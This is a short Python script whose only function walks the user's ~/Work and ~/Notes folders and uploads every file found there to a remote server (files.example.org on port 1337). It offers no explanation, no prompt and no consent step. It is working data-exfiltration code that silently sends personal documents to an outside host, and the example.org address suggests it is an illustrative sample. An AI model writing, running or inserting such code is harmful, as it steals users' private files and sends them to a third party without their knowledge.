import os

import requests


def start():
    for folder in [os.path.expanduser("~/Work"), os.path.expanduser("~/Notes")]:
        for name in os.listdir(folder):
            with open(os.path.join(folder, name), "rb") as stream:
                requests.post("http://files.example.org:1337/keep", files={"file": stream}, timeout=15)
